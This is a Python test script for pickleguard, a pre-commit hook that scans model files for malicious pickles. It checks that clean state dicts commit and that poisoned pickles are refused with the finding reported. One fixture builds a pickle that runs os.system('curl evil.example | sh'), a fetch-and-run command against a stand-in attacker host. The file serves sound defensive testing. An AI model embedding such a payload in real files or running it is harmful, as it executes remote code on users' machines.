#!/usr/bin/python3
"""pickleguard as a pre-commit hook, through the real `pre-commit` tool.

In a temporary git repository, committing a clean state dict passes and
committing a poisoned pickle (os.system, built byte by byte) fails with the
finding in the output, for two configurations:

  * a `repo: local` hook pointing at the built binary;
  * this repository's .pre-commit-hooks.yaml, through `pre-commit try-repo`
    and through a `repo:` entry naming a local git clone of it, with the
    built binary on PATH (as an installed pickleguard would be).

Everything is local: pre-commit clones file paths, and `language: system`
hooks install nothing. Exits 77 (skipped) without pre-commit or git.

    precommit_test.py --pickleguard build/tools/pickleguard --source .
"""

import argparse
import os
import pickle
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pickles  # noqa: E402

SKIP = 77
failures = []


def check(cond, what, output=""):
    print(("ok      " if cond else "FAILED  ") + what, flush=True)
    if not cond:
        failures.append(what)
        if output:
            print("        " + output.replace("\n", "\n        "))


def clean_state_dict() -> bytes:
    """A torch state_dict when torch is installed, else what one holds: names to lists of floats."""
    try:
        import io
        import torch
        buf = io.BytesIO()
        torch.save({"layer.weight": torch.zeros(4, 3), "layer.bias": torch.ones(4)}, buf)
        return buf.getvalue()
    except ImportError:
        return pickle.dumps({"layer.weight": [[0.0] * 3] * 4, "layer.bias": [1.0] * 4}, protocol=4)


class Repo:
    def __init__(self, root, env):
        self.root, self.env = root, env
        os.makedirs(root)
        self.git("init", "-q", "-b", "main")
        self.git("config", "user.email", "test@example.invalid")
        self.git("config", "user.name", "pickleguard test")
        self.git("config", "commit.gpgsign", "false")

    def git(self, *args, check=True):
        return subprocess.run(["git", *args], cwd=self.root, env=self.env, capture_output=True, text=True,
                              check=check)

    def write(self, name, data):
        with open(os.path.join(self.root, name), "wb" if isinstance(data, bytes) else "w") as f:
            f.write(data)

    def commit(self, *files, message="change"):
        self.git("add", *files)
        return self.git("commit", "-q", "-m", message, check=False)


def attempt(repo, label):
    """Commit a clean model and a README, then try to commit a poisoned one."""
    repo.write("README.md", "# models\n")
    repo.write("weights.pt", clean_state_dict())
    r = repo.commit(".pre-commit-config.yaml", "README.md", "weights.pt", message="clean model")
    out = r.stdout + r.stderr
    check(r.returncode == 0, f"{label}: a clean state dict (and a README) commits", out)
    # No extension that says "pickle": the hook must find it by content.
    repo.write("checkpoint", pickles.os_system("curl evil.example | sh"))
    r = repo.commit("checkpoint", message="poisoned model")
    out = r.stdout + r.stderr
    check(r.returncode != 0, f"{label}: a poisoned pickle is refused", out)
    check("os.system" in out and "global-not-allowed" in out, f"{label}: the output names the finding", out)
    check(repo.git("log", "--format=%s").stdout.split("\n")[0] == "clean model",
          f"{label}: the poisoned commit was not made")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pickleguard", required=True)
    ap.add_argument("--source", required=True, help="this repository (holds .pre-commit-hooks.yaml)")
    args = ap.parse_args()
    precommit = shutil.which("pre-commit")
    if not precommit or not shutil.which("git"):
        print("skipped: pre-commit or git is not installed (apt-get install pre-commit)")
        return SKIP
    binary = os.path.abspath(args.pickleguard)
    hooks_file = os.path.join(os.path.abspath(args.source), ".pre-commit-hooks.yaml")

    with tempfile.TemporaryDirectory() as tmp:
        bindir = os.path.join(tmp, "bin")
        os.makedirs(bindir)
        os.symlink(binary, os.path.join(bindir, "pickleguard"))
        env = dict(os.environ)
        env.update(PRE_COMMIT_HOME=os.path.join(tmp, "pre-commit-cache"), HOME=tmp,
                   PATH=bindir + os.pathsep + env.get("PATH", "/usr/bin:/bin"),
                   GIT_CONFIG_NOSYSTEM="1", PRE_COMMIT_COLOR="never")
        env.pop("GIT_DIR", None)
        env.pop("GIT_WORK_TREE", None)

        # 1. repo: local, pointing at the built binary.
        repo = Repo(os.path.join(tmp, "local"), env)
        repo.write(".pre-commit-config.yaml",
                   "repos:\n- repo: local\n  hooks:\n  - id: pickleguard\n    name: pickleguard\n"
                   f"    entry: {binary} scan --skip-unknown\n    language: system\n    types: [file]\n")
        r = subprocess.run([precommit, "install"], cwd=repo.root, env=env, capture_output=True, text=True)
        check(r.returncode == 0, "pre-commit install", r.stdout + r.stderr)
        attempt(repo, "repo: local")

        # 2. This repository's hook definition, from a local git clone of it
        #    (only the hook file matters to pre-commit for language: system).
        hooks = Repo(os.path.join(tmp, "pickleguard-hooks"), env)
        shutil.copy(hooks_file, os.path.join(hooks.root, ".pre-commit-hooks.yaml"))
        hooks.commit(".pre-commit-hooks.yaml", message="hooks")
        rev = hooks.git("rev-parse", "HEAD").stdout.strip()

        repo = Repo(os.path.join(tmp, "cloned"), env)
        repo.write(".pre-commit-config.yaml",
                   f"repos:\n- repo: {hooks.root}\n  rev: {rev}\n  hooks:\n  - id: pickleguard\n")
        r = subprocess.run([precommit, "install"], cwd=repo.root, env=env, capture_output=True, text=True)
        check(r.returncode == 0, "pre-commit install (clone of this repository)", r.stdout + r.stderr)
        attempt(repo, "repo: <clone>")

        # 3. pre-commit try-repo on the same clone, on explicit files.
        t = Repo(os.path.join(tmp, "try"), env)
        t.write("ok.bin", clean_state_dict())
        t.write("notes.txt", "text\n")
        t.write("bad.dat", pickles.os_system())
        t.git("add", "ok.bin", "notes.txt", "bad.dat")
        ok = subprocess.run([precommit, "try-repo", hooks.root, "pickleguard", "--files", "ok.bin", "notes.txt"],
                            cwd=t.root, env=env, capture_output=True, text=True)
        check(ok.returncode == 0, "try-repo: a clean file and a text file pass", ok.stdout + ok.stderr)
        bad = subprocess.run([precommit, "try-repo", hooks.root, "pickleguard", "--files", "ok.bin", "bad.dat"],
                             cwd=t.root, env=env, capture_output=True, text=True)
        out = bad.stdout + bad.stderr
        check(bad.returncode != 0 and "os.system" in out, "try-repo: a poisoned file fails with the finding", out)

        # 4. A scikit-learn pipeline (joblib.dump) fails the default policy with a
        #    hint naming the shipped policy that passes it; the repository chooses
        #    that policy in the hook's args, and the same file commits.
        pipeline = os.path.join(os.path.abspath(args.source), "tests", "fixtures", "sklearn", "pipeline.joblib")
        repo = Repo(os.path.join(tmp, "sklearn"), env)
        repo.write(".pre-commit-config.yaml",
                   f"repos:\n- repo: {hooks.root}\n  rev: {rev}\n  hooks:\n  - id: pickleguard\n")
        subprocess.run([precommit, "install"], cwd=repo.root, env=env, capture_output=True, text=True, check=True)
        repo.commit(".pre-commit-config.yaml", message="hook")
        shutil.copy(pipeline, os.path.join(repo.root, "model.joblib"))
        r = repo.commit("model.joblib", message="model")
        out = r.stdout + r.stderr
        check(r.returncode != 0 and "hint: model.joblib passes under --policy sklearn" in out,
              "sklearn pipeline: refused under default, with the hint naming sklearn", out)
        repo.write(".pre-commit-config.yaml",
                   f"repos:\n- repo: {hooks.root}\n  rev: {rev}\n  hooks:\n  - id: pickleguard\n"
                   "    args: [--quiet, --policy, sklearn]\n")
        r = repo.commit(".pre-commit-config.yaml", "model.joblib", message="model under sklearn")
        check(r.returncode == 0, "sklearn pipeline: commits with args: [--quiet, --policy, sklearn]",
              r.stdout + r.stderr)

    print(f"{len(failures)} failed" if failures else "all passed")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
